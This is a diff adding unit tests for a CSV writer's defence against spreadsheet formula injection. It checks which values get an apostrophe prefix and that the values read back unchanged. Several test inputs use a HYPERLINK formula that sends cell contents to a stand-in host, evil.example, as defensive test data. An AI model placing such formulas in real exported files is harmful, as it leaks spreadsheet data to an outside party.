@@ -1,4 +1,6 @@
-/* Tests of parsers/csv.c: CSV attachments (docs/submissions.md section 4). */
+/* Tests of parsers/csv.c: CSV attachments (docs/submissions.md section 4),
+ * and the cells the gateway writes for spreadsheets (ctcgw(8), CSV AND
+ * SPREADSHEETS). */
 #include <stdarg.h>
 #include <stddef.h>
 #include <stdint.h>
@@ -7,6 +9,7 @@
 
 #include <string.h>
 
+#include "parsers/csv.h"
 #include "parsers/form.h"
 
 /* A lookup that knows KZ, KG, UNODC and OSCE. */
@@ -355,6 +358,101 @@ test_staff_kind (void **state)
   assert_null (form_kind_find ("group"));
 }
 
+/* ---- cells written for spreadsheets ------------------------------------ */
+
+/* The values a spreadsheet would take for a formula, and those it would not. */
+static void
+test_cell_guarded (void **state)
+{
+  const char *guarded[] = {
+    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "+7 727 123 4567", "-2+3",
+    "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=", "'=1+1", "''-1", "'\t",
+  };
+  const char *plain[] = {
+    "", "Counsellor", " =1+1", "7 727 123 4567", "'", "'quoted'", "''x", "a=b", "x@y.example",
+  };
+  for (guint i = 0; i < G_N_ELEMENTS (guarded); i++)
+    assert_true (csv_cell_guarded (guarded[i]));
+  for (guint i = 0; i < G_N_ELEMENTS (plain); i++)
+    assert_false (csv_cell_guarded (plain[i]));
+  assert_false (csv_cell_guarded (NULL));
+}
+
+/* value written as one cell. */
+static char *
+cell_of (const char *value)
+{
+  GString *out = g_string_new (NULL);
+  csv_append_cell (out, value);
+  return g_string_free (out, FALSE);
+}
+
+/* A formula is written after an apostrophe, inside the quotes if any;
+ * everything else as before. */
+static void
+test_append_cell (void **state)
+{
+  const char *cases[][2] = {
+    { "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
+      "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\"" },
+    { "+7 727 123 4567", "'+7 727 123 4567" },
+    { "-2+3", "'-2+3" },
+    { "@SUM(A1:A9)", "'@SUM(A1:A9)" },
+    { "\t=1+1", "'\t=1+1" },
+    { "\r=1+1", "\"'\r=1+1\"" },
+    { "'=1+1", "''=1+1" },
+    { "'quoted'", "'quoted'" },
+    { "Counsellor", "Counsellor" },
+    { "a, b", "\"a, b\"" },
+    { " padded ", "\" padded \"" },
+    { "", "" },
+    { NULL, "" },
+  };
+  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
+    {
+      g_autofree char *cell = cell_of (cases[i][0]);
+      assert_string_equal (cell, cases[i][1]);
+    }
+}
+
+/* Every value written by csv_append_cell() reads back as it was, through
+ * the reader of attachments and imports: formulas without the apostrophe
+ * written before them, and a value that begins with an apostrophe with it. */
+static void
+test_cell_round_trip (void **state)
+{
+  const char *values[] = {
+    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "+7 727 123 4567", "-2+3",
+    "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\tx", "'=1+1", "''=1+1", "'+7", "'quoted'", "''x",
+    "'", "x'", "Counsellor", "a, \"b\"\nc",
+  };
+  for (guint i = 0; i < G_N_ELEMENTS (values); i++)
+    {
+      g_autoptr (GString) data = g_string_new ("Title,Issuer,Areas\r\n");
+      csv_append_cell (data, values[i]);
+      g_string_append (data, ",UNODC,other\r\n");
+      g_autoptr (FormParse) parse = csv_check (data->str, "standard.csv");
+      FormRecord *rec = record (parse, 0);
+      FormValue *title = rec->values->pdata[0];
+      assert_string_equal (title->key, "Title");
+      assert_string_equal (title->value, values[i]);
+    }
+}
+
+/* A cell that the writer could not have made keeps its apostrophe. */
+static void
+test_cell_value (void **state)
+{
+  assert_string_equal (csv_cell_value ("'=1+1"), "=1+1");
+  assert_string_equal (csv_cell_value ("''=1+1"), "'=1+1");
+  assert_string_equal (csv_cell_value ("'\t"), "\t");
+  assert_string_equal (csv_cell_value ("'quoted'"), "'quoted'");
+  assert_string_equal (csv_cell_value ("''x"), "''x");
+  assert_string_equal (csv_cell_value ("'"), "'");
+  assert_string_equal (csv_cell_value ("=1+1"), "=1+1");
+  assert_string_equal (csv_cell_value (""), "");
+}
+
 int
 main (void)
 {
@@ -371,6 +469,10 @@ main (void)
     cmocka_unit_test (test_limits),
     cmocka_unit_test (test_no_header_and_wide_header),
     cmocka_unit_test (test_staff_kind),
+    cmocka_unit_test (test_cell_guarded),
+    cmocka_unit_test (test_append_cell),
+    cmocka_unit_test (test_cell_round_trip),
+    cmocka_unit_test (test_cell_value),
   };
   return cmocka_run_group_tests (tests, NULL, NULL);
 }
